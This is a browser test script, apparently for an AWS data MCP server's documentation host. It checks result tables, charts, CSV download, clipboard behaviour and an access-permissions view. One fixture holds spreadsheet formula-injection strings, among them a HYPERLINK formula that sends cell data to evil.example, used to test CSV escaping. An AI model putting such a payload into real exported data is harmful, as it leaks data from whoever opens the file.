// Both views in the documentation host (test/docs-host.ts: its own origin, a sandbox proxy on a second origin, the
// view in the proxy's srcdoc frame), driven as an analyst would: scrolling to the end of 2,000 rows, the charts a
// result earns or not, the numbers as written, the CSV, hosts without download or clipboard, a maximum height, and
// the access view in words. Prints what the browser showed as one JSON object, and screenshots each state.
// Usage: node test/independent.mjs <server URL> <screenshot dir>   (after `node build.mjs --host`)
import { join } from "node:path";
import { HOST_PAGES, openDocsHost } from "./session.mjs";

const [url, shots] = process.argv.slice(2);
const DAY = "order_date = '2026-01-01'";
const QUERIES = {
  keyed: { database: "sales", max_rows: 1000, sql: `SELECT order_id, total_amount, channel FROM orders WHERE ${DAY} ORDER BY order_id LIMIT 2000` },
  grouped: { database: "sales", sql: "SELECT channel, count(*) AS orders, sum(total_amount) AS total_amount, "
    + "avg(total_amount) AS avg_price, max(order_ts) AS last_order FROM orders "
    + "WHERE order_date BETWEEN '2026-01-01' AND '2026-01-07' GROUP BY channel ORDER BY channel" },
  daily: { database: "sales", sql: "SELECT order_date, currency, count(*) AS orders, sum(total_amount) AS revenue, "
    + "avg(items_count) AS items_per_order FROM orders WHERE order_date BETWEEN '2026-01-01' AND '2026-01-14' "
    + "AND currency = 'EUR' GROUP BY order_date, currency ORDER BY order_date" },
  formulas: { database: "sales", sql: "SELECT * FROM (VALUES "
    + "('=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")', -2, 1.5), ('@SUM(1+1)', 3, -0.25), "
    + "('+1+1', -7, 2.0), ('-2+3', 0, 1.0)) AS t(label, n, x)" },
  wide: { database: "sales", max_rows: 40, sql: "SELECT *, order_id AS order_ref, customer_id AS customer_ref, "
    + "concat(status, ' by ', channel, ', ', rpad(customer_id, 80, '.'), ' in ', currency) AS note, "
    + `order_ts AS placed_at FROM orders WHERE ${DAY} ORDER BY order_id LIMIT 40` },
  cutoff: { database: "sales", sql: "SELECT * FROM orders" },
};
const EXPLAINED = "permissions://tables/sales/raw_orders";

const host = await openDocsHost(url, "aws-data-mcp documentation host test");
const { page } = host;
const seen = {};
const errors = [];
const network = [];
const view = async () => {
  await page.waitForFunction(() => document.querySelector("iframe") !== null);
  for (let tries = 0; tries < 200; tries++) {
    const frame = host.view();
    if (frame && await frame.locator("#root").count().catch(() => 0)) return frame;
    await page.waitForTimeout(50);
  }
  throw new Error("the view's frame never appeared");
};
const show = async (tool, args, options = {}) => {
  await page.evaluate(([t, a, o]) => window.show(t, a, o), [tool, args, options]);
  return view();
};
const shot = (name) => page.screenshot({ path: join(shots, `${name}.png`) });
const cellsOf = async (frame) => frame.locator("tbody td").allInnerTexts();
// The structured result the host handed the view: what its figures are checked against.
const given = () => page.evaluate(() => window.record.result?.structuredContent);
const mostDecimals = (texts) => Math.max(0, ...texts.map((t) => (/\d\.(\d+)/.exec(t.replace(/,/g, ""))?.[1].length ?? 0)));

try {
  page.on("request", (request) => { if (!(request.url() in HOST_PAGES) && !/^(data|about|blob):/.test(request.url())) network.push(request.url()); });
  page.on("pageerror", (error) => errors.push(String(error)));
  page.on("console", (message) => { if (message.type() === "error") errors.push(message.text()); });
  await host.start();

  // 2,000 rows keyed by order_id, 1,000 a page, in a host without clipboard and with a maximum height: no chart of
  // order_id; scrolling to the end (the mouse wheel, as a person does) reads the next page through the host.
  let frame = await show("athena_query", QUERIES.keyed, { download: true, maxHeight: 600 });
  await frame.locator("tbody tr").nth(999).waitFor();
  seen.keyed = { rows: await frame.locator("tbody tr").count(), charts: await frame.locator("svg").count(),
    count: await frame.locator("#count").innerText() };
  await shot("query-results-keyed");
  const box = frame.locator("#rows");
  await box.hover();
  const asked = () => page.evaluate(() => window.record.calls.some((call) => call.includes("cursor=")));
  for (let turn = 0; turn < 200 && !await asked(); turn++) {
    await page.mouse.wheel(0, 4000);
    await page.waitForTimeout(100);
  }
  await frame.locator("tbody tr").nth(1999).waitFor({ timeout: 120_000 }).catch(() => {}); // counted just below
  seen.keyed.after_scroll = await frame.locator("tbody tr").count();
  seen.keyed.reads = (await page.evaluate(() => window.record.calls)).filter((c) => c.includes("cursor="));
  seen.keyed.sizes = await page.evaluate(() => window.record.sizes);
  seen.keyed.most_decimals = mostDecimals(await cellsOf(frame));
  // No clipboard permission: a click on a cell shows its value to select.
  await frame.locator("tbody tr:first-child td:first-child").click();
  seen.keyed.copy_box = await frame.locator("#box textarea").inputValue();
  seen.keyed.copy_title = await frame.locator("#box").innerText();

  // A grouped result: a chart of a measure by channel, every row, readable axes, a choice of measure.
  frame = await show("athena_query", QUERIES.grouped, { download: true, clipboard: true });
  await frame.locator("#chart svg").waitFor();
  const chart = async () => ({ label: await frame.locator("#chart svg").getAttribute("aria-label"),
    bars: await frame.locator("#chart rect.mark").count(), titles: await frame.locator("#chart .axis-title").allTextContents(),
    ticks: await frame.locator("#chart svg > text:not(.x-label):not(.axis-title)").allTextContents(),
    x_labels: await frame.locator("#chart .x-label").allTextContents(),
    width: await frame.locator("#chart svg").evaluate((svg) => svg.getBoundingClientRect().width),
    table_width: await frame.locator("#rows").evaluate((div) => div.getBoundingClientRect().width) });
  seen.grouped = { rows: await frame.locator("tbody tr").count(), chart: await chart(),
    measures: await frame.locator("#measure option").allInnerTexts(), cells: await cellsOf(frame),
    titles: await frame.locator("tbody td[title]").evaluateAll((tds) => tds.map((td) => td.getAttribute("title"))),
    given: (await given()).results };
  await shot("query-results-grouped");
  await frame.locator("#measure").selectOption({ label: "avg_price" });
  seen.grouped.avg_chart = await chart();
  seen.grouped.most_decimals = mostDecimals(seen.grouped.cells);
  // A host that grants clipboard-write: a click on a cell copies its value as Athena gave it.
  // Each toast is kept as it appears (it leaves after 1.5 s, which a busy machine may outlast), then the click's
  // answer, a toast or the box, is awaited: readiness, not a time.
  await frame.evaluate(() => {
    window.toasts = [];
    new MutationObserver((changes) => changes.forEach((change) => change.addedNodes.forEach((node) => {
      if (node.className === "toast") window.toasts.push(node.textContent);
    }))).observe(document.body, { childList: true });
  });
  await frame.locator("tbody tr:first-child td:nth-child(4)").click();
  await frame.waitForFunction(() => window.toasts.length > 0 || document.getElementById("box") !== null);
  seen.grouped.copy = { toast: await frame.evaluate(() => window.toasts), box: await frame.locator("#box").count(),
    clipboard: await page.evaluate(() => navigator.clipboard.readText()) }; // read back by the host page

  // Money and dates: a daily EUR series, a line over order_date, the currency written, the dates readable.
  frame = await show("athena_query", QUERIES.daily, { download: true });
  await frame.locator("#chart path.mark").waitFor();
  seen.daily = { label: await frame.locator("#chart svg").getAttribute("aria-label"), cells: await cellsOf(frame),
    x_labels: await frame.locator("#chart .x-label").allTextContents(),
    first_title: await frame.locator("tbody tr:first-child td:first-child").getAttribute("title"),
    chart_note: await frame.locator("#chart-note").count() };
  seen.daily.most_decimals = mostDecimals(seen.daily.cells);
  await shot("query-results-daily");

  // Spreadsheet formulas in the data: the CSV through the host's download, and shown to select without one.
  frame = await show("athena_query", QUERIES.formulas, { download: true });
  await frame.locator("tbody tr").first().waitFor();
  seen.formulas = { buttons: await frame.locator("button").allInnerTexts(), charts: await frame.locator("svg").count() };
  await frame.locator("#csv").click();
  await page.waitForFunction(() => window.record.downloads.length > 0);
  seen.formulas.downloaded = (await page.evaluate(() => window.record.downloads))[0];
  frame = await show("athena_query", QUERIES.formulas, {});
  await frame.locator("tbody tr").first().waitFor();
  seen.formulas.buttons_without_download = await frame.locator("button").allInnerTexts();
  await frame.locator("#csv").click();
  seen.formulas.shown = await frame.locator("#box textarea").inputValue();
  await shot("query-results-csv-box");

  // A wide result: scrolled sideways to the end, the first column stays in view; long values are cut with a title.
  frame = await show("athena_query", QUERIES.wide, { download: true });
  await frame.locator("tbody tr").first().waitFor();
  await frame.locator("#rows").evaluate((div) => { div.scrollLeft = div.scrollWidth; });
  seen.wide = await frame.locator("#rows").evaluate((div) => {
    const first = div.querySelector("tbody td") .getBoundingClientRect();
    const long = div.querySelector("td.long");
    return { box_left: div.getBoundingClientRect().left, first_left: first.left, scrolled: div.scrollLeft,
      columns: div.querySelectorAll("thead th").length, long: long?.textContent, long_title: long?.getAttribute("title"),
      charts: document.querySelectorAll("svg").length };
  });
  await frame.locator("td.long").first().click();
  seen.wide.copied = await frame.locator("#box textarea").inputValue();
  seen.wide.given = (await given()).results;
  await shot("query-results-wide");

  // Stopped by the cutoff: nothing to download, no empty row count.
  frame = await show("athena_query", QUERIES.cutoff, { download: true });
  await frame.locator("#failure").waitFor();
  seen.cutoff = { buttons: await frame.locator("button").allInnerTexts(), text: await frame.locator("#root").innerText() };

  // The access view: discover's legend, sentences for evidence, a bucket's explainer and its fixes, wrapped.
  frame = await show("show_access", {}, { theme: "dark", clipboard: true });
  await frame.locator("table.matrix td").first().waitFor();
  seen.access = { legend: await frame.locator("#legend").innerText(), header: await frame.locator("header").innerText(),
    levels: (await given()).levels };
  await frame.locator("table.matrix tr", { hasText: "acme-logs-archive" }).locator("td", { hasText: "denied" }).first().click();
  seen.access.detail = await frame.locator("#detail").innerText();
  await shot("access-discover");
  frame = await show("show_access", { uri: EXPLAINED }, { clipboard: true });
  await frame.locator("table.chain").waitFor();
  const explained = JSON.parse((await host.client.readResource({ uri: EXPLAINED })).contents[0].text);
  seen.explainer = { detail: await frame.locator("#detail").innerText(), answer_summary: explained.summary ?? null,
    first_line: (await frame.locator("#root").innerText()).split("\n")[0],
    copy_buttons: [...new Set(await frame.locator("#fix button").allInnerTexts())],
    overflowing: await frame.locator("pre, td").evaluateAll((els) => els.filter((el) => el.scrollWidth > el.clientWidth + 1).length) };
  await shot("access-explainer-words");
  seen.network = network;
  seen.errors = errors;
} catch (failure) {
  console.error(`the browser saw: ${JSON.stringify({ seen, errors, network })}`);
  const inner = host.view();
  if (inner) console.error((await inner.content()).split("<main")[1]?.slice(0, 2000));
  throw failure;
} finally {
  await host.close();
}
console.log(JSON.stringify(seen));
